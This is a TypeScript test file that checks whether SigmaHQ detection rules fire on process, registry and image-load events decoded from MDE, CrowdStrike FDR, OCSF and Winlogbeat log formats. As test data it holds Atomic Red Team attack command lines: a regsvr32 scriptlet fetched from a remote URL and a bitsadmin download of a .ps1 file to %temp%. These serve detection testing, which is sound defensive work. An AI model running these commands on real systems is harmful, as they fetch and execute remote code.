// The seed's two Atomic command lines (regsvr32 scriptlet, bitsadmin transfer) as each vendor
// format writes them fire the same SigmaHQ rules as their Sysmon form, decoded from the wire
// shape through decodeRecord (so detection, normalization and the format's field mapping all
// take part); benign look-alikes fire none of them. A registry rule checks the hives are read as
// Sigma spells them, an image_load rule that MDE's image loads reach it.
import {readdirSync} from 'node:fs';
import {join} from 'node:path';
import {beforeAll, describe, expect, it} from 'vitest';
import {decodeRecord, type DecodedEvent} from '../../../source/core/formats/index.js';
import {formatLoadReport, loadRules, type LoadReport, type RuleEngine} from '../../../source/core/rules/index.js';
import {csEvent, csProcess} from '../../fixtures/formats/cs-fdr.js';
import {initiating, mdeMessage, mdeRecord} from '../../fixtures/formats/mde.js';
import {ocsfEvent, ocsfProc} from '../../fixtures/formats/ocsf.js';
import {sysmon1Data, winlogbeat8} from '../../fixtures/formats/winlogbeat.js';
import {sigmaCorpus} from '../../helpers/sigma-corpus.js';
import {only} from '../../helpers/lists.js';

const corpus = sigmaCorpus();
let engine: RuleEngine;
let report: LoadReport;

const CMD = 'C:\\Windows\\System32\\cmd.exe';
const REGSVR32 = 'C:\\Windows\\System32\\regsvr32.exe';
const BITSADMIN = 'C:\\Windows\\System32\\bitsadmin.exe';
const T1218_010 =
	'regsvr32.exe /s /u /i:https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1218.010/src/RegSvr32.sct scrobj.dll';
const T1197 =
	'bitsadmin.exe /transfer /Download /priority Foreground https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1197/T1197.md %temp%\\bitsadmin1_flag.ps1';

/** A process creation of `image` with `cmdline`, started by cmd.exe, as each format's wire message. */
type Shape = (image: string, cmdline: string) => string;

const basename = (p: string) => p.slice(p.lastIndexOf('\\') + 1);

const SHAPES: Record<string, Shape> = {
	mde: (image, cmdline) =>
		mdeMessage(
			mdeRecord('DeviceProcessEvents', {
				ActionType: 'ProcessCreated',
				FileName: basename(image),
				FolderPath: image.toLowerCase(),
				ProcessCommandLine: cmdline,
				ProcessId: 4200,
				AccountDomain: 'corp',
				AccountName: 'alice',
				ProcessVersionInfoOriginalFileName: basename(image).toUpperCase(),
				...initiating({file: 'cmd.exe', folder: CMD.toLowerCase(), cmd: `cmd.exe /c "${cmdline}"`, pid: 4100}),
			}),
		),
	'cs-fdr': (image, cmdline) =>
		JSON.stringify(
			csEvent(
				'ProcessRollup2',
				csProcess({
					image: image.replace('C:\\', '\\Device\\HarddiskVolume3\\'),
					cmdline,
					upid: '38612316301',
					pid: 4200,
					parentUpid: '38612316270',
					parent: 'cmd.exe',
				}),
			),
		),
	ocsf: (image, cmdline) => {
		const parent = ocsfProc({path: CMD, cmd: `cmd.exe /c "${cmdline}"`, pid: 4100, uid: 'p-4100'});
		const child = ocsfProc({path: image, cmd: cmdline, pid: 4200, uid: 'p-4200'});
		return JSON.stringify(ocsfEvent(1007, 1, {actor: {process: parent}, process: {...child, parent_process: parent}}));
	},
	// Winlogbeat 8's raw output is read by the Sysmon decoder (format sysmon).
	winlogbeat: (image, cmdline) =>
		JSON.stringify(
			winlogbeat8('Microsoft-Windows-Sysmon/Operational', 'Microsoft-Windows-Sysmon', 1, sysmon1Data(image, cmdline)),
		),
};

/** The format label each shape decodes to. */
const FORMAT_OF: Record<string, string> = {winlogbeat: 'sysmon'};

function decoded(shape: Shape, image: string, cmdline: string): DecodedEvent {
	return only(decodeRecord({value: shape(image, cmdline), receivedAt: 1}));
}

const REGSVR32_RULES = ['867356ee-9352-41c9-a8f2-1be690d78216', 'b236190c-1c61-41e9-84b3-3fe03f6d76b0'];
const BITSADMIN_RULES = [
	'd059842b-6b9d-4ed1-b5c3-5b89143c6ede',
	'5b80a791-ad9b-4b75-bcc1-ad4e1e89c200',
	'2ddef153-167b-4e89-86b6-757a9e65dcac',
];
const BUILTIN = ['ad5c66a0-25b4-4970-bf2c-a9f5ff38ec04', '4ed0461c-2bab-406e-ad9a-1d453e1aebb7'];

describe.skipIf(!corpus.root)('SigmaHQ regsvr32 and bitsadmin rules on each vendor format', () => {
	beforeAll(() => {
		const dir = join(corpus.root!, 'windows', 'process_creation');
		const files = readdirSync(dir)
			.filter(f => /^proc_creation_win_(regsvr32|bitsadmin)_/.test(f))
			.map(f => join(dir, f));
		({engine, report} = loadRules(files));
	});

	it('the load report says, per format, which rule fields it cannot supply', () => {
		// MDE has the PE's original file name; FDR's ProcessRollup2 has neither it nor the parent's command line.
		expect(report.fieldGaps.mde.applicable).toBe(report.loaded);
		expect(report.fieldGaps.mde.fields).not.toHaveProperty('OriginalFileName');
		expect(report.fieldGaps['cs-fdr'].fields).toHaveProperty('OriginalFileName');
		const text = formatLoadReport(report);
		expect(text).toMatch(/^Microsoft Defender for Endpoint \(mde\): \d+ rules apply; /m);
		expect(text).toMatch(
			/^CrowdStrike FDR \(cs-fdr\): \d+ rules apply; \d+ name fields it cannot supply \(.*OriginalFileName/m,
		);
		expect(text).not.toMatch(/^Rules naming fields/m);
		const fdr = formatLoadReport(report, {format: 'cs-fdr'});
		expect(fdr).toMatch(/^Rules naming fields cs-fdr cannot supply \(\d+\):$/m);
		expect(fdr).toMatch(
			/^ {2}.*proc_creation_win_regsvr32_network_pattern\.yml: .* \(867356ee-[^)]+\): .*OriginalFileName/m,
		);
	});

	for (const [format, shape] of Object.entries(SHAPES)) {
		it(`${format}: T1218.010 hits the regsvr32 rules and the built-in`, () => {
			const ev = decoded(shape, REGSVR32, T1218_010);
			expect(ev.format).toBe(FORMAT_OF[format] ?? format);
			const ids = engine.evaluate(ev).map(h => h.id);
			for (const id of [...REGSVR32_RULES, BUILTIN[0]!]) expect(ids).toContain(id);
		});

		it(`${format}: T1197 hits the bitsadmin download rules and the built-in`, () => {
			const hits = engine.evaluate(decoded(shape, BITSADMIN, T1197));
			const ids = hits.map(h => h.id);
			for (const id of [...BITSADMIN_RULES, BUILTIN[1]!]) expect(ids).toContain(id);
			const download = hits.find(h => h.id === 'd059842b-6b9d-4ed1-b5c3-5b89143c6ede')!;
			const cl = download.fields.find(f => f.field === 'CommandLine')!;
			expect(cl.spans.map(([s, e]) => cl.value.slice(s, e).toLowerCase())).toContain(' /transfer ');
		});

		it(`${format}: benign regsvr32 and bitsadmin use hits none of those rules`, () => {
			const all = [...REGSVR32_RULES, ...BITSADMIN_RULES, ...BUILTIN];
			const benign = [
				decoded(
					shape,
					REGSVR32,
					'regsvr32.exe /s "C:\\Program Files\\Common Files\\microsoft shared\\ink\\tiptsf.dll"',
				),
				decoded(shape, BITSADMIN, 'bitsadmin.exe /list /allusers'),
				decoded(shape, 'C:\\Windows\\System32\\svchost.exe', 'svchost.exe -k netsvcs -p -s BITS'),
			];
			for (const ev of benign) expect(engine.evaluate(ev).filter(h => all.includes(h.id))).toEqual([]);
		});
	}
});

// A service ImagePath set under a suspicious folder, as each vendor spells the key: the rule tests
// `TargetObject|startswith: 'HKLM\System\CurrentControlSet\Services\'`, so it fires only when the
// hive and the control set are read in Sigma's spelling.
const SERVICE_RULE = 'a07f0359-4c90-4dc4-a681-8ffea40b4f47';
const REGISTRY_SHAPES: Record<string, (data: string) => string> = {
	mde: data =>
		mdeMessage(
			mdeRecord('DeviceRegistryEvents', {
				ActionType: 'RegistryValueSet',
				RegistryKey: 'HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\updater',
				RegistryValueName: 'ImagePath',
				RegistryValueData: data,
				...initiating({file: 'sc.exe', folder: 'c:\\windows\\system32\\sc.exe', pid: 5300}),
			}),
		),
	'cs-fdr': data =>
		JSON.stringify(
			csEvent('RegGenericValueUpdate', {
				RegObjectName: '\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Services\\updater',
				RegValueName: 'ImagePath',
				RegStringValue: data,
				RegOperationType: '1',
				ContextProcessId: '38612316270',
			}),
		),
	ocsf: data =>
		JSON.stringify(
			ocsfEvent(201002, 2, {
				actor: {process: ocsfProc({path: 'C:\\Windows\\System32\\sc.exe', pid: 5300, uid: 'p-5300'})},
				reg_value: {path: 'HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\updater', name: 'ImagePath', data},
			}),
		),
};

describe.skipIf(!corpus.root)('a SigmaHQ registry rule on each vendor format', () => {
	let registry: RuleEngine;
	beforeAll(() => {
		const file = join(
			corpus.root!,
			'windows',
			'registry',
			'registry_set',
			'registry_set_creation_service_susp_folder.yml',
		);
		registry = loadRules([file], {builtin: false}).engine;
	});

	for (const [format, shape] of Object.entries(REGISTRY_SHAPES)) {
		it(`${format}: a service ImagePath under \\Users\\Public\\ hits it, one under System32 does not`, () => {
			const bad = only(decodeRecord({value: shape('C:\\Users\\Public\\updater.exe'), receivedAt: 1}));
			expect(bad.format).toBe(format);
			const hit = registry.evaluate(bad).find(h => h.id === SERVICE_RULE);
			expect(hit).toBeDefined();
			const target = hit!.fields.find(f => f.field === 'TargetObject')!;
			expect(target.value).toBe('HKLM\\SYSTEM\\CurrentControlSet\\Services\\updater\\ImagePath');
			const good = only(decodeRecord({value: shape('C:\\Windows\\System32\\updater.exe'), receivedAt: 1}));
			expect(registry.evaluate(good)).toEqual([]);
		});
	}
});

describe.skipIf(!corpus.root)('a SigmaHQ image_load rule on MDE image loads', () => {
	it('DeviceImageLoadEvents rows route to image_load: amsi.dll in rundll32 hits, in powershell not', () => {
		const file = join(corpus.root!, 'windows', 'image_load', 'image_load_dll_amsi_suspicious_process.yml');
		const {engine: images, report: loaded} = loadRules([file], {builtin: false});
		expect(loaded.fieldGaps.mde.rulesWithUnsuppliedFields).toBe(0);
		const load = (folder: string, file: string) =>
			only(
				decodeRecord({
					value: mdeMessage(
						mdeRecord('DeviceImageLoadEvents', {
							ActionType: 'ImageLoaded',
							FileName: 'amsi.dll',
							FolderPath: 'C:\\Windows\\System32\\amsi.dll',
							...initiating({file, folder, pid: 6100}),
						}),
					),
					receivedAt: 1,
				}),
			);
		const hits = images.evaluate(load('c:\\windows\\system32\\rundll32.exe', 'rundll32.exe'));
		expect(hits.map(h => h.id)).toEqual(['6ec86d9e-912e-4726-91a2-209359b999b9']);
		expect(hits[0]!.fields.find(f => f.field === 'ImageLoaded')?.source).toBe('FolderPath');
		const ps = 'c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe';
		expect(images.evaluate(load(ps, 'powershell.exe'))).toEqual([]);
	});
});
